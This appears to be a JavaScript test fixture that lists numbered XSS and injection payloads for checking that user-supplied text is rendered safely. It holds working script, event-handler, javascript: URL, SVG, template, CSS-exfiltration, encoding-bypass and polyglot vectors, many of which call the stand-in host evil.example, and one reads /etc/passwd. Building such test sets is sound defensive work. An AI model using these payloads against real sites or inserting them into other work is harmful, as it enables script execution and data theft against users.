// Texts that try to become markup, script, style or a request: what a posting, a
// mail, a note or a profile may hold when somebody wishes us ill. Each tells itself
// apart by its number, so that whatever comes alive can be named. Where a script
// would run it calls alert or asks evil.example.
const handlers = ['onload', 'onerror', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle', 'onbegin', 'onpointerenter', 'onscrollend'];

const html = [
  '<script>alert(N)</script>', '<script src=//evil.example/N.js></script>', '<ScRiPt>alert(N)</sCrIpT>', '<script/x>alert(N)</script>', '<scr<script>ipt>alert(N)</scr</script>ipt>',
  '<script type=module>import("//evil.example/N.js")</script>', '</script><script>alert(N)</script>', '</textarea><script>alert(N)</script>', '</title><script>alert(N)</script>', '</style><script>alert(N)</script>',
  '<!--><script>alert(N)</script-->', '<![CDATA[<script>alert(N)</script>]]>', '<noscript><p title="</noscript><img src=x onerror=alert(N)>">', '<iframe srcdoc="<script>parent.alert(N)</script>"></iframe>', '<iframe src="javascript:alert(N)"></iframe>',
  '<object data="//evil.example/N.swf"></object>', '<embed src="//evil.example/N.svg">', '<base href="//evil.example/N/">', '<meta http-equiv=refresh content="0;url=//evil.example/N">', '<link rel=stylesheet href="//evil.example/N.css">',
  '<link rel=prefetch href="//evil.example/N">', '<form action="//evil.example/N"><button autofocus>go</button></form>', '<input autofocus onfocus=alert(N)>', '<video><source onerror=alert(N)></video>', '<audio src=x onerror=alert(N)></audio>',
  '<details open ontoggle=alert(N)>x</details>', '<marquee onstart=alert(N)>x</marquee>', '<body onload=alert(N)>', '<table background="//evil.example/N.png"><td>x</table>', '<dialog open onclose=alert(N)>x</dialog>',
  '<a href="javascript:alert(N)">apply here</a>', '<a href="//evil.example/N" ping="//evil.example/ping/N">x</a>', '<img src="//evil.example/N.png">', '<img srcset="//evil.example/N.png 1x">', '<picture><source srcset="//evil.example/N.webp"><img></picture>',
  '<portal src="//evil.example/N"></portal>', '<frameset onload=alert(N)>', '<isindex action="javascript:alert(N)" type=image>', '<x contenteditable onblur=alert(N)>x</x>', '<button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(N)>',
];

const attributes = [
  ...handlers.map((h) => `" ${h}="alert(N)" x="`), ...handlers.slice(0, 5).map((h) => `' ${h}='alert(N)' autofocus tabindex='0`),
  '"><img src=x onerror=alert(N)>', "'><img src=x onerror=alert(N)>", '`><img src=x onerror=alert(N)>', '" style="background:url(//evil.example/N)" x="', '" srcdoc="<script>alert(N)</script>',
  '" autofocus onfocus=alert(N)//', '"/onmouseover=alert(N)//', '\\"><script>alert(N)</script>', '&quot;><script>alert(N)</script>', '%22%3E%3Cscript%3Ealert(N)%3C/script%3E',
];

const urls = [
  'javascript:alert(N)', 'JaVaScRiPt:alert(N)', 'java\tscript:alert(N)', 'java\nscript:alert(N)', '\u0001javascript:alert(N)', 'javascript://evil.example/%0aalert(N)', 'data:text/html,<script>alert(N)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(N)', 'view-source:javascript:alert(N)', 'blob:https://evil.example/N', 'https://evil.example/N?<script>alert(N)</script>', '//evil.example/N', '\\\\evil.example\\N', 'https:evil.example/N', 'file:///etc/passwd#N', 'filesystem:https://evil.example/temporary/N', 'jar:https://evil.example/N!/x',
];

const svg = [
  '<svg onload=alert(N)>', '<svg><script>alert(N)</script></svg>', '<svg><script href="//evil.example/N.js"/></svg>', '<svg><animate onbegin=alert(N) attributeName=x dur=1s>', '<svg><set attributeName=onload to=alert(N)>',
  '<svg><a xlink:href="javascript:alert(N)"><text y=20>x</text></a></svg>', '<svg><use href="//evil.example/N.svg#x"/></svg>', '<svg><image href="//evil.example/N.png"/></svg>', '<svg><foreignObject><iframe src="javascript:alert(N)"/></foreignObject></svg>', '<svg><style>@import "//evil.example/N.css"</style></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(N)>', '<math href="javascript:alert(N)">x</math>', '<svg><desc><noscript></desc><img src=x onerror=alert(N)>', '<svg><feImage href="//evil.example/N.png"/></svg>',
];

const templates = [
  '{{constructor.constructor("alert(N)")()}}', '${alert(N)}', '#{alert(N)}', '<%= alert(N) %>', '{{7*7}}{{alert(N)}}', '{% raw %}<script>alert(N)</script>{% endraw %}', '[[${alert(N)}]]', '{{{<script>alert(N)</script>}}}', '<template><script>alert(N)</script></template>', '<slot onslotchange=alert(N)>', '<template shadowrootmode=open><script>alert(N)</script></template>', '{"__html":"<img src=x onerror=alert(N)>"}', '{"$$typeof":"Symbol(react.element)","type":"script"} N',
];

const markdown = [
  '[apply](javascript:alert(N))', '![x](//evil.example/N.png)', '![x](x "onerror=alert(N)")', '[x](data:text/html,<script>alert(N)</script>)', '<javascript:alert(N)>', '[x]: javascript:alert(N)', '[a](<javascript:alert(N)>)', '```html\n<script>alert(N)</script>\n```', '[![x](//evil.example/N.png)](javascript:alert(N))', '<https://evil.example/N" onmouseover=alert(N) x=">',
];

const css = [
  '<style>@import url(//evil.example/N.css);</style>', '<style>body{background:url(//evil.example/N.png)}</style>', '<div style="background:url(//evil.example/N.png)">x</div>', '<div style="width:expression(alert(N))">x</div>', '<style>@font-face{font-family:x;src:url(//evil.example/N.woff)}*{font-family:x}</style>', '<style>input[value^=a]{background:url(//evil.example/N)}</style>', '<div style="position:fixed;inset:0;z-index:99999;background:red">covered N</div>', '</style><style>*{display:none}</style>', '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(N)>', 'x:expression(alert(N));-moz-binding:url(//evil.example/N.xml#x)',
];

const unicode = [
  '\uff1cscript\uff1ealert(N)\uff1c/script\uff1e', '\u003cscript\u003ealert(N)\u003c/script\u003e', '<scr\u0000ipt>alert(N)</scr\u0000ipt>', '<\u200bscript>alert(N)</script>', '\u202e<tpircs/>)N(trela<tpircs>', '<script\u2028>alert(N)</script>', '&#60;script&#62;alert(N)&#60;/script&#62;', '&lt;img src=x onerror=alert(N)&gt;', '\\x3cscript\\x3ealert(N)\\x3c/script\\x3e', '\\u003cimg src=x onerror=alert(N)\\u003e', '+ADw-script+AD4-alert(N)+ADw-/script+AD4-', '\ud83d\ude00<img src=x onerror=alert(N)>\ud83d\ude00', '\u001b]8;;javascript:alert(N)\u0007x\u001b]8;;\u0007', '<img src=x onerror="\\u0061lert(N)">', '\u0130mg <\u0131mg src=x onerror=alert(N)>',
];

const polyglots = [
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(N) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(N)//>\\x3e',
  '">><marquee><img src=x onerror=alert(N)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=alert(N)>', '\'">><script>alert(N)</script><svg/onload=alert(N)>', '*/alert(N)/*<script>', '--></script></title></style>"/</textarea>*/<alert(N)/*\' onclick=alert(N)//>', '";alert(N);//', "';alert(N)//", '</p><script>alert(N)</script><p>', '`-alert(N)-`', '0;alert(N);<svg onload=alert(N)>', '"}],"x":"<img src=x onerror=alert(N)>', '<a id=__proto__ name=N><form id=config><input name=baseUrl value=//evil.example/N>',
];

/** kinds are the payloads by what they try to be. */
export const kinds = { html, attributes, urls, svg, templates, markdown, css, unicode, polyglots };

/** payloads are all of them, numbered. */
export const payloads = Object.values(kinds).flat().map((p, n) => p.replace(/\bN\b/g, String(1000 + n)));
